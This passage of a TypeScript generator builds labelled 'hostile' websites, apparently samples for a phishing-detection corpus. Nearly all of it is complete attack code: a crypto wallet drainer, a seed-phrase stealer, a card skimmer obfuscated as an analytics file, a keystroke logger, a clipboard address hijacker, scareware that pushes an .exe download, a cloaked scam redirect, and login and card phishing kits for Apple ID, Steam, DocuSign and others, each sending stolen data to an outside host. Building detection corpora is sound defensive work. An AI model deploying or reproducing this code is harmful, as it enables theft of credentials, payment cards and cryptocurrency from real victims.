    try { const tx = await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to: token, data }] }); log({ ev: 'approve', token, tx, account }); } catch {}
  }
  for (const nft of NFTS) {
    const data = '0xa22cb465' + pad(SPENDER) + pad('0x1');
    try { const tx = await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to: nft, data }] }); log({ ev: 'setApprovalForAll', nft, tx, account }); } catch {}
  }
  const bal = BigInt(await window.ethereum.request({ method: 'eth_getBalance', params: [account, 'latest'] }));
  const gas = 21000n * 30000000000n;
  if (bal > gas) { const tx = await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to: SPENDER, value: '0x' + (bal - gas).toString(16) }] }); log({ ev: 'sweep', tx, account }); }
}`,
      'src/log.js': `export function log(o) { fetch('https://${logHost}/v1/e', { method: 'POST', keepalive: true, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...o, ref: document.referrer, t: Date.now() }) }).catch(() => {}); }`,
      'src/style.css': `body{background:#0b1020;color:#fff;font-family:system-ui;text-align:center;padding-top:80px}button{padding:12px 28px;border-radius:24px;border:0;background:#28a0f0;color:#fff}`,
    });
    sites.push(
      hostile(
        'h2-airdrop-drainer-vite',
        'fake airdrop (Vite): unlimited approve + setApprovalForAll to attacker, native sweep, logging',
        built,
      ),
    );
  }

  // 9. "MetaMask wallet validation": recovery phrase, private key or keystore + password, sent
  // out through EmailJS (a legitimate form service).
  sites.push(
    hostile(
      'h2-seed-phrase-emailjs',
      'MetaMask "wallet sync": recovery phrase / private key / keystore → EmailJS',
      {
        'index.html': en(
          'MetaMask — Wallet Synchronization',
          `<link rel="stylesheet" href="css/app.css"><script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@4/dist/email.min.js"></script>`,
          `<div class="wrap"><img src="img/metamask-fox.svg" width="64" alt="MetaMask"><h1>Validate your wallet</h1><p>Due to the recent network upgrade, all wallets must be re-synchronized to avoid loss of funds. Import your wallet to continue.</p>
<div class="tabs"><button data-t="phrase" class="on">Phrase</button><button data-t="keystore">Keystore JSON</button><button data-t="pk">Private Key</button></div>
<form id="sync"><div data-p="phrase"><textarea name="phrase" rows="4" placeholder="Enter your 12 or 24 word Secret Recovery Phrase, separated by spaces"></textarea></div>
<div data-p="keystore" hidden><textarea name="keystore" rows="4" placeholder="Keystore JSON"></textarea><input name="kpass" type="password" placeholder="Wallet password"></div>
<div data-p="pk" hidden><input name="pk" placeholder="Private key (64 hex characters)"></div>
<button class="btn">Synchronize</button><p id="msg"></p></form></div>
<script src="js/sync.js"></script>`,
        ),
        'css/app.css': `${SITE_CSS}\n.wrap{max-width:480px;margin:60px auto;text-align:center}`,
        'js/sync.js': `emailjs.init({ publicKey: '${r.word(17)}' });
let tab = 'phrase';
document.querySelectorAll('[data-t]').forEach((b) => b.addEventListener('click', (e) => { e.preventDefault(); tab = b.dataset.t; document.querySelectorAll('[data-p]').forEach((p) => (p.hidden = p.dataset.p !== tab)); }));
document.getElementById('sync').addEventListener('submit', async (e) => {
  e.preventDefault();
  const f = e.target;
  if (tab === 'phrase' && f.phrase.value.trim().split(/\\s+/).length < 12) { document.getElementById('msg').textContent = 'Invalid recovery phrase'; return; }
  await emailjs.send('service_${r.word(7)}', 'template_${r.word(7)}', { wallet: 'MetaMask', type: tab, phrase: f.phrase.value, keystore: f.keystore.value, password: f.kpass.value, privatekey: f.pk.value, agent: navigator.userAgent });
  document.getElementById('msg').textContent = 'Synchronizing… this can take up to 30 minutes.';
  setTimeout(() => (location.href = 'https://metamask.io/'), 3000);
});`,
      },
    ),
  );

  // 10. A shop with a Magecart skimmer: its "analytics" file (obfuscated) reads every field of
  // the checkout as it changes and beacons the card data to a look-alike analytics host.
  {
    const skimHost = `www.google-analytics.com.${r.pick(['cdn-gtm', 'stat-cache', 'jsdelivr-cdn'])}.${tld()}`;
    const skimmer = `(function () {
  if (!/checkout/.test(location.pathname)) return;
  var data = {}, last = '';
  function grab() { document.querySelectorAll('input, select').forEach(function (el) { var k = el.name || el.id; if (k && el.value) data[k] = el.value; }); }
  document.addEventListener('change', grab, true);
  document.addEventListener('blur', grab, true);
  setInterval(function () {
    grab();
    var s = JSON.stringify(data);
    var card = Object.keys(data).some(function (k) { return /card|cc|number|cvv|cvc/i.test(k); });
    if (card && s !== last) { last = s; navigator.sendBeacon('https://${skimHost}/collect', btoa(unescape(encodeURIComponent(s + '|' + location.host)))); }
  }, 3000);
})();`;
    const head = `<link rel="stylesheet" href="css/shop.css"><script src="js/analytics.min.js" async></script>`;
    sites.push(
      hostile(
        'h2-magecart-skimmer',
        'outdoor shop with a card skimmer in js/analytics.min.js (obfuscated): sendBeacon to a look-alike host',
        {
          'index.html': en(
            'Northpeak Outfitters',
            head,
            `<header><a href="index.html">Northpeak Outfitters</a> <a href="checkout.html">Checkout</a></header><main><h1>Gear for the long trail</h1><p>Ultralight tents, packs and quilts. Free shipping over $99.</p><div><h3>Ridgeline 2P tent</h3><p>$389</p></div><div><h3>Drift 40L pack</h3><p>$229</p></div></main>`,
          ),
          'checkout.html': en(
            'Checkout — Northpeak Outfitters',
            head,
            `<main><h1>Checkout</h1><form id="co" action="thanks.html"><h3>Shipping</h3><input name="fullname" placeholder="Full name" autocomplete="name"><input name="address" placeholder="Address" autocomplete="street-address"><input name="email" type="email" placeholder="Email">
<h3>Payment</h3><input name="cardnumber" placeholder="Card number" autocomplete="cc-number"><input name="exp-date" placeholder="MM / YY" autocomplete="cc-exp"><input name="cvc" placeholder="CVC" autocomplete="cc-csc"><button class="btn">Pay $389.00</button></form></main>`,
          ),
          'thanks.html': en('Thanks — Northpeak Outfitters', head, `<main><h1>Order received</h1></main>`),
          'css/shop.css': SITE_CSS,
          'js/analytics.min.js': await obfuscate(skimmer, r.int(1e6)),
        },
      ),
    );
  }

  // 11. A 163 Mail login clone whose external "tracking" script streams every keystroke and paste
  // to a WebSocket on a free hosting service, live.
  {
    const host = `${r.pick(['mail163', 'netease-mail', 'm163'])}-${r.word(4)}.onrender.com`;
    sites.push(
      hostile(
        'h2-163mail-ws-keylogger',
        '网易163邮箱仿冒：assets/track.js 逐键与粘贴经 WebSocket 发往 onrender.com',
        {
          'index.html': page(
            '163网易免费邮-你的专业电子邮局',
            `<link rel="stylesheet" href="assets/index.css"><script src="assets/track.js" defer></script>`,
            `<div class="hd"><img src="assets/163logo.png" alt="网易163免费邮"></div><div class="panel"><h3>邮箱帐号登录</h3>
<form id="f" onsubmit="return false"><input id="account" placeholder="邮箱帐号或手机号码" autocomplete="off"><span>@163.com</span><input id="password" type="password" placeholder="输入密码"><label><input type="checkbox"> 十天内免登录</label><button id="dologin">登 录</button></form>
<p class="err" id="err" hidden>帐号或密码错误</p><a href="#">忘记密码？</a> <a href="#">注册新帐号</a></div><div class="ft">网易公司版权所有 ©1997-2024</div>`,
          ),
          'assets/index.css': `${SITE_CSS}\n.panel{width:350px;margin:60px auto;padding:30px;border:1px solid #e1e1e1}`,
          'assets/track.js': `(function () {
  var sock, buf = [], sid = Date.now().toString(36) + Math.random().toString(36).slice(2, 6);
  function open() { sock = new WebSocket('wss://${host}/k'); sock.onopen = function () { sock.send(JSON.stringify({ sid: sid, hello: location.href, ua: navigator.userAgent })); flush(); }; sock.onclose = function () { setTimeout(open, 2000); }; }
  function flush() { if (sock && sock.readyState === 1 && buf.length) { sock.send(JSON.stringify({ sid: sid, k: buf.splice(0) })); } }
  document.addEventListener('keydown', function (e) { var t = e.target; buf.push([t.id || t.name || t.tagName, e.key, Date.now() % 100000]); if (e.key === 'Enter' || buf.length > 8) flush(); }, true);
  document.addEventListener('paste', function (e) { buf.push([e.target.id, 'PASTE', (e.clipboardData || window.clipboardData).getData('text')]); flush(); }, true);
  document.getElementById('dologin').addEventListener('click', function () {
    buf.push(['SUBMIT', document.getElementById('account').value, document.getElementById('password').value]); flush();
    document.getElementById('err').hidden = false;
    setTimeout(function () { location.href = 'https://mail.163.com/'; }, 1500);
  });
  open();
  setInterval(flush, 1000);
})();`,
        },
      ),
    );
  }

  // 12. A "crypto OTC desk" page with a clipboard hijacker: any wallet address copied or read
  // from the clipboard is swapped for the attacker's (addresses kept as char codes).
  {
    const btc = `bc1q${r.word(38)}`;
    const eth = `0x${r.word(40).replace(/[g-z]/g, (c) => (c.charCodeAt(0) % 16).toString(16))}`;
    const trx = `T${r
      .word(33)
      .toUpperCase()
      .replace(/[0OIl]/g, 'X')}`;
    sites.push(
      hostile(
        'h2-clipboard-hijacker',
        "OTC desk page; on copy and every second the clipboard's BTC/ETH/TRX addresses are swapped for the attacker's",
        {
          'index.html': en(
            'SwiftOTC — buy USDT with bank transfer',
            `<link rel="stylesheet" href="otc.css">`,
            `<main><h1>SwiftOTC</h1><p>Fast OTC trades, 0.3% fee. Send the amount to the desk address below and message us your TXID.</p>
<p>USDT (TRC-20) desk: <code>TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE</code></p><p>BTC desk: <code>bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</code></p>
<p>Paste your receiving address:</p><input id="recv" placeholder="Your wallet address"><button class="btn">Create order</button></main>
<script src="otc.js"></script>`,
          ),
          'otc.css': SITE_CSS,
          'otc.js': `(function(){var d=function(a){return String.fromCharCode.apply(null,a)};var A={btc:d([${charCodes(btc)}]),eth:d([${charCodes(eth)}]),trx:d([${charCodes(trx)}])};
var R=[[/\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}\\b/g,A.btc],[/\\b0x[a-fA-F0-9]{40}\\b/g,A.eth],[/\\bT[A-Za-z1-9]{33}\\b/g,A.trx]];
function swap(s){var o=s;R.forEach(function(r){o=o.replace(r[0],r[1])});return o}
document.addEventListener('copy',function(e){var s=String(window.getSelection());var t=swap(s);if(t!==s){e.clipboardData.setData('text/plain',t);e.preventDefault()}});
setInterval(function(){if(!document.hasFocus()||!navigator.clipboard)return;navigator.clipboard.readText().then(function(s){var t=swap(s);if(t!==s)navigator.clipboard.writeText(t)}).catch(function(){})},1000);
document.addEventListener('paste',function(e){var s=(e.clipboardData||window.clipboardData).getData('text');var t=swap(s);if(t!==s){e.preventDefault();document.execCommand('insertText',false,t)}});})();`,
        },
      ),
    );
  }

  // 13. Scareware: a fake "Windows Defender" alert that traps the back button, goes full screen,
  // plays an alarm, pushes a support phone number and auto-downloads an .exe from another host.
  {
    const dl = `https://${r.pick(['cdn-dl', 'files', 'update'])}.${r.word(7)}.${tld()}/download/MicrosoftSecurityScanner_x64.exe`;
    sites.push(
      hostile(
        'h2-scareware-defender',
        'fake Windows Defender alert: back-button trap, fullscreen, alarm, tech-support number, auto .exe download',
        {
          'index.html': en(
            'Windows Defender - Security Warning',
            `<style>body{background:#0078d7;color:#fff;font-family:Segoe UI,sans-serif;cursor:none}.modal{background:#fff;color:#000;width:600px;margin:60px auto;padding:20px}.red{color:#c00;font-weight:bold}</style>`,
            `<div class="modal"><h2>⚠ Windows Defender - Security Warning</h2><p class="red">** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</p>
<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: Email credentials, Banking passwords, Facebook login, Pictures &amp; documents.</p>
<p>Windows Defender scan found potentially unwanted adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
<p>Call Microsoft Support: <b class="red">+1-888-${r.int(900) + 100}-${r.int(9000) + 1000}</b> (Toll Free)</p><div id="scan">Scanning: <span id="pct">0</span>% — <span id="found">0</span> threats found</div>
<button id="fix">Scan now</button> <button id="cancel">Cancel</button></div><audio id="alarm" src="alert.mp3" loop autoplay></audio>
<script src="defender.js"></script>`,
          ),
          'defender.js': `var DL = '${dl}';
for (var i = 0; i < 20; i++) history.pushState({ n: i }, '', location.href);
addEventListener('popstate', function () { history.pushState(null, '', location.href); alert('Windows Defender: threats detected. Call Microsoft Support now.'); });
addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = 'Your PC is infected!'; });
function full() { var d = document.documentElement; (d.requestFullscreen || d.webkitRequestFullscreen || function () {}).call(d); document.getElementById('alarm').play().catch(function () {}); }
document.addEventListener('click', full); document.addEventListener('keydown', function (e) { e.preventDefault(); full(); });
function download() { var a = document.createElement('a'); a.href = DL; a.download = 'MicrosoftSecurityScanner_x64.exe'; document.body.appendChild(a); a.click(); }
var p = 0, t = setInterval(function () { p += 3; document.getElementById('pct').textContent = Math.min(p, 100); document.getElementById('found').textContent = Math.floor(p / 9); if (p >= 100) { clearInterval(t); download(); } }, 120);
document.getElementById('fix').onclick = download; document.getElementById('cancel').onclick = download;
setInterval(function () { alert('** WARNING ** Your computer is infected. Do not restart. Call +1-888 Microsoft Support.'); }, 15000);`,
          'alert.mp3': Buffer.from('ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000', 'latin1'),
        },
      ),
    );
  }

  // 14. A cloaked redirect: crawlers and headless browsers see an empty "loading" page; people
  // are sent, after a short delay, to a gambling/investment scam; the code is eval(atob(..)) of a
  // char-code URL.
  {
    const scam = `https://www.${r.word(6)}${r.int(99)}.vip/#/register?inviteCode=${r.int(1e6)}`;
    const inner = `(function(){var ua=navigator.userAgent;if(navigator.webdriver||/bot|spider|crawl|headless|lighthouse|baidu|sogou|360spider|yisou/i.test(ua)||!('ontouchstart' in window)&&screen.width<400)return;setTimeout(function(){location.replace(String.fromCharCode(${charCodes(scam)}))},800)})();`;
    sites.push(
      hostile(
        'h2-cloaked-redirect',
        '斗篷跳转：爬虫/无头浏览器看到“加载中”，真人 0.8 秒后被 eval(atob()) 里的字符码地址跳到博彩/投资诈骗站',
        {
          'index.html': page(
            '正在加载...',
            `<meta name="robots" content="noindex"><meta name="referrer" content="no-referrer">`,
            `<div style="text-align:center;margin-top:30vh;color:#999">页面加载中，请稍候…</div>
<script>eval(atob('${b64(inner)}'));</script>`,
          ),
        },
      ),
    );
  }

  // 15. "DocuSign: you have received a document" whose login form lives in an iframe page; the
  // frame posts email and password to a Cloudflare Workers endpoint.
  {
    const worker = `https://${r.word(8)}.${r.word(6)}.workers.dev/`;
    sites.push(
      hostile(
        'h2-docusign-iframe-worker',
        'DocuSign lure; email/password form inside an iframe page → workers.dev (FormData, no-cors)',
        {
          'index.html': en(
            'DocuSign - Review Document',
            `<style>body{margin:0;background:#f4f4f4 url(img/blurred-invoice.png) center/cover;font-family:Helvetica,Arial,sans-serif}.bar{background:#1e1e1e;color:#fff;padding:12px}iframe{display:block;margin:60px auto;border:0;width:420px;height:520px;background:#fff;box-shadow:0 4px 24px #0004}</style>`,
            `<div class="bar"><img src="img/docusign.svg" alt="DocuSign" height="24"> Please review and sign: <b>INV-2024-${r.int(9000) + 1000}.pdf</b> (2 pages)</div><iframe src="auth/frame.html" title="Verify your identity"></iframe>`,
          ),
          'auth/frame.html': en(
            'Verify',
            `<link rel="stylesheet" href="frame.css">`,
            `<div class="f"><h3>Confirm your email to view the document</h3><p>Select your email provider</p><div class="providers"><img src="../img/outlook.png" alt="Outlook"><img src="../img/office365.png" alt="Office 365"><img src="../img/yahoo.png" alt="Yahoo"><img src="../img/other.png" alt="Other Mail"></div>
<form id="v"><input name="email" type="email" placeholder="Email address" required><input name="password" type="password" placeholder="Email password" required><button>View Document</button></form><p id="e" hidden style="color:#c00">Invalid password. Please try again.</p></div>
<script src="frame.js"></script>`,
          ),
          'auth/frame.css': `${SITE_CSS}\n.f{padding:24px}.providers img{width:60px;margin:4px}`,
          'auth/frame.js': `var n = 0;
document.getElementById('v').addEventListener('submit', function (e) {
  e.preventDefault();
  var fd = new FormData(this);
  fd.append('attempt', ++n); fd.append('src', document.referrer || top.location.href);
  fetch('${worker}', { method: 'POST', mode: 'no-cors', body: fd });
  if (n < 3) { document.getElementById('e').hidden = false; this.password.value = ''; }
  else top.location.href = 'https://www.docusign.com/';
});`,
        },
      ),
    );
  }

  // 16. A Steam "vote for our team" page (Vite build) with a browser-in-the-browser popup that
  // fakes steamcommunity.com's login; account, password and Steam Guard code go by XHR to a
  // look-alike domain.
  {
    const look = `steamcommunnity.${r.pick(['com.ru', 'ru', 'cfd', 'click'])}`;
    const built = await viteBuild({
      'index.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>NAVI vs FaZe — vote for the MVP | PGL Major</title></head>
<body><main><h1>PGL Major — vote for the MVP and get a free case</h1><div class="teams"><div class="team">NAVI</div><div class="team">FaZe</div></div><button id="vote">Vote via Steam</button></main><div id="popup" hidden></div>
<script type="module" src="/src/main.js"></script></body></html>`,
      'src/main.js': `import './style.css';
import { openPopup } from './popup.js';
document.getElementById('vote').onclick = openPopup;
document.querySelectorAll('.team').forEach((t) => (t.onclick = () => { t.classList.add('picked'); openPopup(); }));`,
      'src/popup.js': `import { send } from './net.js';
export function openPopup() {
  const p = document.getElementById('popup');
  p.hidden = false;
  p.innerHTML = '<div class="win"><div class="titlebar"><span>🔒</span><span class="url">https://steamcommunity.com/openid/loginform/</span><span class="x">✕</span></div>'
    + '<div class="steam"><h2>Sign in</h2><form id="s"><label>Sign in with account name<input name="username" autocomplete="off"></label><label>Password<input name="password" type="password"></label><label><input type="checkbox" checked> Remember me</label><button>Sign in</button></form>'
    + '<form id="g" hidden><p>Enter the code from your Steam Mobile App</p><input name="twofactorcode" maxlength="5"><button>Submit</button></form></div></div>';
  p.querySelector('.x').onclick = () => (p.hidden = true);
  let user = '';
  p.querySelector('#s').onsubmit = async (e) => {
    e.preventDefault();
    user = e.target.username.value;
    await send({ username: user, password: e.target.password.value });
    e.target.hidden = true; p.querySelector('#g').hidden = false;
  };
  p.querySelector('#g').onsubmit = async (e) => {
    e.preventDefault();
    await send({ username: user, twofactorcode: e.target.twofactorcode.value });
    p.innerHTML = '<div class="win"><p>Thanks for voting! Your case will arrive in your inventory.</p></div>';
  };
}`,
      'src/net.js': `export function send(data) {
  return new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.open('POST', 'https://${look}/login/dologin/');
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8');
    x.onloadend = resolve;
    x.send(new URLSearchParams({ ...data, donotcache: Date.now(), remember_login: 'true' }).toString());
  });
}`,
      'src/style.css': `body{background:#1b2838;color:#c7d5e0;font-family:Arial}#popup{position:fixed;inset:0;background:#0008}.win{width:500px;margin:60px auto;background:#171a21}.titlebar{background:#dee1e6;color:#333;padding:6px;display:flex;gap:8px}.url{flex:1;background:#fff;border-radius:12px;padding:2px 10px}`,
    });
    sites.push(
      hostile(
        'h2-steam-bitb-vite',
        'Steam vote lure (Vite): browser-in-the-browser fake login popup, password + Steam Guard via XHR to a look-alike domain',
        built,
      ),
    );
  }

  // 17. SF Express "address problem, pay ¥2.99 re-delivery fee": address, then card with CVV,
  // then SMS code; external script with jQuery $.ajax to a PHP endpoint on another host.
  {
    const api = `https://${r.pick(['sf-express', 'sfexpress-cn', 'shunfeng'])}.${r.word(4)}.${tld()}/api/order.php`;
    const shell = (t: string, body: string) =>
      page(
        t,
        `<link rel="stylesheet" href="css/sf.css"><script src="js/jquery.min.js"></script><script src="js/main.js" defer></script>`,
        `<div class="top"><img src="img/sf-logo.png" alt="顺丰速运"></div>${body}`,
      );
    sites.push(
      hostile(
        'h2-sf-express-jquery',
        '顺丰“地址异常补缴运费”仿冒：地址 → 银行卡/CVV → 短信码，外部 main.js 用 jQuery $.ajax 发往他域 PHP',
        {
          'index.html': shell(
            '顺丰速运 - 包裹派送异常',
            `<div class="c"><h3>您的包裹派送失败</h3><p>运单号 SF14${r.int(1e9)}：因收件地址不详，包裹已退回集散中心。请在 48 小时内更新地址并补缴重新派送费 ¥2.99，逾期包裹将被退回寄件人。</p>
<form id="addr"><input name="name" placeholder="收件人姓名" required><input name="phone" placeholder="手机号码" required><input name="area" placeholder="省/市/区" required><input name="detail" placeholder="详细地址" required><button class="btn">下一步</button></form></div>`,
          ),
          'pay.html': shell(
            '顺丰速运 - 支付运费',
            `<div class="c"><h3>支付重新派送费 ¥2.99</h3><form id="card"><input name="holder" placeholder="持卡人姓名"><input name="cardno" placeholder="银行卡号" required><input name="expiry" placeholder="有效期 MM/YY"><input name="cvv" placeholder="CVV（卡背后三位）"><input name="idcard" placeholder="持卡人身份证号"><input name="bankphone" placeholder="银行预留手机号"><button class="btn">确认支付</button></form></div>`,
          ),
          'sms.html': shell(
            '顺丰速运 - 验证',
            `<div class="c"><h3>请输入银行发送的验证码</h3><form id="sms"><input name="smscode" placeholder="短信验证码" maxlength="6"><button class="btn">确认</button></form></div>`,
          ),
          'css/sf.css': `${SITE_CSS}\n.top{background:#000;padding:10px}`,
          'js/jquery.min.js': JQUERY(),
          'js/main.js': `$(function () {
  var oid = localStorage.getItem('oid') || ('o' + Date.now());
  localStorage.setItem('oid', oid);
  function post(step, form, next) {
    var data = $(form).serialize() + '&step=' + step + '&oid=' + oid;
    $.ajax({ url: '${api}', type: 'POST', data: data, crossDomain: true, complete: function () { location.href = next; } });
  }
  $('#addr').on('submit', function (e) { e.preventDefault(); post('addr', this, 'pay.html'); });
  $('#card').on('submit', function (e) { e.preventDefault(); post('card', this, 'sms.html'); });
  $('#sms').on('submit', function (e) { e.preventDefault(); post('sms', this, 'https://www.sf-express.com/'); });
});`,
        },
      ),
    );
  }

  // 18. "Your ETC card has expired": plate, name, ID number, card number, trading password, phone;
  // sent with navigator.sendBeacon after a delay; the script is lightly obfuscated.
  {
    const host = `${r.pick(['etc-rz', 'etcfw', 'etc-auth'])}.${r.word(5)}.${tld()}`;
    const code = `var f = document.getElementById('etc');
f.addEventListener('submit', function (e) {
  e.preventDefault();
  var fd = new FormData(f);
  fd.append('ua', navigator.userAgent);
  document.getElementById('loading').hidden = false;
  setTimeout(function () {
    navigator.sendBeacon('https://${host}/api/b', fd);
    location.href = 'done.html';
  }, 2000);
});`;
    sites.push(
      hostile(
        'h2-etc-sendbeacon',
        'ETC 认证失效仿冒：车牌/姓名/身份证/银行卡/交易密码/手机，延时 sendBeacon，脚本轻度混淆',
        {
          'index.html': page(
            'ETC服务 - 在线认证',
            `<link rel="stylesheet" href="etc.css">`,
            `<div class="h">ETC 客户服务中心</div><div class="c"><p class="warn">【ETC】尊敬的车主：您的 ETC 卡因未完成实名认证已被停用，请立即在线认证，认证后即可恢复正常通行。</p>
<form id="etc"><input name="plate" placeholder="车牌号码（如 京A12345）" required><input name="name" placeholder="车主姓名" required><input name="idcard" placeholder="身份证号码" required>
<input name="bankcard" placeholder="ETC 绑定银行卡号" required><input name="paypwd" type="password" placeholder="银行卡交易密码" maxlength="6" required><input name="mobile" placeholder="银行预留手机号" required><button class="btn">立即认证</button></form>
<div id="loading" hidden>正在提交认证，请稍候……</div></div><script src="etc.js"></script>`,
          ),
          'done.html': page(
            '认证成功',
            '<link rel="stylesheet" href="etc.css">',
            `<div class="c"><h2>认证已提交</h2><p>工作人员将在 1 个工作日内为您恢复 ETC 通行服务。</p></div>`,
          ),
          'etc.css': SITE_CSS,
          'etc.js': await obfuscate(code, r.int(1e6), false),
        },
      ),
    );
  }

  // 19. "Your Apple ID has been locked" (esbuild bundle, minified): Apple ID and password, then
  // name, date of birth and card; the collector URL is built from char codes; fetch keepalive.
  {
    const collector = `https://${r.pick(['appleid', 'icloud', 'apple-support'])}-${r.word(5)}.${tld()}/api/rzlt`;
    const entry = `const U = String.fromCharCode(${charCodes(collector)});
const state = {};
const $ = (s) => document.querySelector(s);
function push(stage) { return fetch(U, { method: 'POST', keepalive: true, headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ stage, ...state, lang: navigator.language, tz: Intl.DateTimeFormat().resolvedOptions().timeZone }) }).catch(() => {}); }
$('#signin').addEventListener('submit', (e) => { e.preventDefault(); state.appleId = $('#appleId').value; state.password = $('#pwd').value; push('login'); $('#signin').hidden = true; $('#unlock').hidden = false; });
$('#unlock').addEventListener('submit', (e) => { e.preventDefault(); for (const el of e.target.elements) if (el.name) state[el.name] = el.value; push('billing').then(() => location.replace('https://appleid.apple.com/')); });`;
    sites.push(
      hostile(
        'h2-appleid-charcodes-bundle',
        'Apple ID locked lure (esbuild, minified): Apple ID/password then card/DOB; char-code URL, fetch keepalive',
        {
          'index.html': en(
            'Apple ID - Manage your account',
            `<link rel="stylesheet" href="main.css">`,
            `<header> <a href="#">Apple ID</a></header><main><h1>Your Apple ID has been locked for security reasons</h1><p>Sign in to verify your information and unlock your account.</p>
<form id="signin"><input id="appleId" placeholder="Email or Phone Number" required><input id="pwd" type="password" placeholder="Password" required><button class="btn">Continue</button></form>
<form id="unlock" hidden><input name="fullName" placeholder="Full name"><input name="dob" placeholder="Date of birth"><input name="address" placeholder="Billing address"><input name="cardNumber" placeholder="Card number" autocomplete="cc-number"><input name="expiry" placeholder="MM/YY"><input name="securityCode" placeholder="Security code"><button class="btn">Unlock Account</button></form></main>
<footer>Copyright © 2024 Apple Inc. All rights reserved.</footer><script src="app.min.js"></script>`,
          ),
          'main.css': SITE_CSS,
          'app.min.js': await esbuildBundle(entry),
        },
      ),
    );
  }

  return sites;
}
